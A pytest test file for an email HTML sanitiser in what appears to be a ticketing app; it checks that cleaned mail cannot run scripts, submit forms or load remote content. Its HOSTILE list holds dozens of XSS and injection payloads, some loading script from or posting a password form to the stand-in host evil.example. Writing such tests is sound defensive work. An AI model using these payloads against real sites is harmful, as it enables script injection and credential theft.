"""HTML of strangers (T9): nothing runs, posts, loads or hides."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tickets.domain.mail.sanitise import clean_html, present_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav\tascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='/logout/'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<form action=//evil.example><input name=password><button hx-post=/x>Send</button></form>",
    "<div hx-get=/tickets/1/close/ hx-trigger=load>x</div>",
    "<div data-hx-post=/x data-hx-trigger=load data-key=r>x</div>",
    "<div style='position:fixed;top:0;background:url(//evil.example)'>x</div>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video src=//evil.example><source src=//evil.example></video><audio src=//evil.example>",
    "<table background=//evil.example><td background=http://evil.example>x</td></table>",
    "<img srcset='http://evil.example 2x' src='http://evil.example/a.png'>",
    "<img src='&#104;ttp://evil.example/a'>",
    "<div id=main name=x class=toast>x</div>",
    "<hx-partial hx-target=body>x</hx-partial>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<img alt='\"><script>alert(1)</script>' src=http://evil.example>",
    "<template><script>alert(1)</script></template>",
    "<p lang='\"><script>'>x",
    "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>",
]
TAG = re.compile(r"<(/?[a-z0-9-]+)((?: [a-z-]+=\"[^\"<>]*\")*)>")
ATTRIBUTES = """
    href title src alt width height colspan rowspan align start type color dir lang rel target class loading
    referrerpolicy data-mail-cid data-mail-remote
"""
ALLOWED_ATTRIBUTES = set(ATTRIBUTES.split())
FORBIDDEN_TAGS = {
    "script",
    "style",
    "form",
    "input",
    "button",
    "iframe",
    "object",
    "svg",
    "math",
    "link",
    "meta",
    "base",
}


def assert_harmless(html: str, *, remote_pictures: bool) -> None:
    """Every "<" begins a known tag with known, quoted attributes whose addresses are harmless."""
    assert "<" not in TAG.sub("", html)
    for name, attributes in TAG.findall(html):
        assert name.strip("/") not in FORBIDDEN_TAGS
        found = re.findall(r' ([a-z-]+)="([^"]*)"', attributes)
        assert {attribute for attribute, _ in found} <= ALLOWED_ATTRIBUTES
        for attribute, value in found:
            if attribute == "href":
                assert re.match(r"(?i)\s*(https?|mailto|tel):", value)
            if attribute == "src":
                assert value.startswith("/attachments/") or (remote_pictures and re.match(r"(?i)https?:", value))
            if attribute == "class":
                assert value in ("mail-picture", "mail-quote")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_is_harmless(hostile):
    safe = clean_html(f"<p>before</p>{hostile}<p>after</p>")
    assert_harmless(safe.html, remote_pictures=False)
    for asked in (False, True):
        shown = present_html(safe.html, picture_urls={}, remote_pictures=asked, quote_label="Quoted text")
        assert_harmless(shown, remote_pictures=asked)
    assert "before" in safe.html


SCRAPS = [
    "<p>",
    "</p>",
    "<table><tr><td>",
    "'",
    '"',
    "<",
    ">",
    "&lt;",
    "</",
    "<blockquote>",
    "</blockquote>",
    "<!--",
    "-->",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, *SCRAPS, "<img src=cid:a "]), max_size=12).map("".join))
def test_scrambled_html_is_harmless(source):
    safe = clean_html(source)
    assert_harmless(safe.html, remote_pictures=False)
    shown = present_html(safe.html, picture_urls={"a": "/attachments/1/"}, quote_label="Quoted")
    assert_harmless(shown, remote_pictures=False)
    assert shown.count("<details") == shown.count("</details>")


def test_ordinary_formatting_stays():
    source = (
        '<p>Hello <b>you</b>, <font color="#c00">my answer</font></p><table><tr><td colspan="2">1</td></tr></table>'
    )
    html = clean_html(source).html
    assert "<b>you</b>" in html
    assert '<font color="#c00">my answer</font>' in html
    assert '<td colspan="2">1</td>' in html


def test_links_open_apart_and_tell_nothing():
    html = clean_html('<a href="https://x.example/?a=1&b=2" target="_self" rel="opener">x</a>').html
    assert 'href="https://x.example/?a=1&amp;b=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener nofollow noreferrer"' in html


def test_remote_pictures_load_only_when_asked_for():
    safe = clean_html('<img src="https://track.example/p.gif?id=1&u=2" alt="Logo" width="1" height="1">')
    assert safe.remote_pictures == 1
    assert " src=" not in safe.html
    hidden = present_html(safe.html, picture_urls={})
    assert hidden == '<span class="mail-picture">Logo</span>'
    asked = present_html(safe.html, picture_urls={}, remote_pictures=True)
    assert 'src="https://track.example/p.gif?id=1&amp;u=2"' in asked
    assert 'referrerpolicy="no-referrer"' in asked


def test_the_mails_own_pictures_are_shown_from_its_attachments():
    safe = clean_html('<img src="cid:pic@1" alt="Plan"><img src="CID:a&quot;b"><img src="cid:absent">')
    assert safe.remote_pictures == 0
    shown = present_html(safe.html, picture_urls={"pic@1": "/attachments/7/", 'a"b': "/attachments/8/"})
    assert '<img src="/attachments/7/"' in shown
    assert '<img src="/attachments/8/"' in shown
    assert shown.endswith('<span class="mail-picture">▢</span>')


def test_a_forged_marker_of_ours_is_dropped():
    safe = clean_html('<img data-mail-cid="x" data-mail-remote="https://evil.example">&lt;img data-mail-remote="y"&gt;')
    assert "evil" not in safe.html
    assert present_html(safe.html, picture_urls={}, remote_pictures=True).count("<img") == 0


def test_outermost_quotes_fold():
    safe = clean_html("<p>new</p><blockquote>old<blockquote>older</blockquote></blockquote><p>end</p>")
    assert present_html(safe.html, picture_urls={}, quote_label="Quoted <text>") == (
        '<p>new</p><details class="mail-quote"><summary>Quoted &lt;text&gt;</summary><blockquote>old'
        "<blockquote>older</blockquote></blockquote></details><p>end</p>"
    )


def test_a_long_newsletter_is_cleaned_quickly():
    source = (
        "<table>" + "<tr><td align=left><a href=https://x.example>y</a><img src=https://x.example/i></td></tr>" * 2_000
    )
    started = time.process_time()
    assert clean_html(source).remote_pictures == 2_000
    assert time.process_time() - started < 1
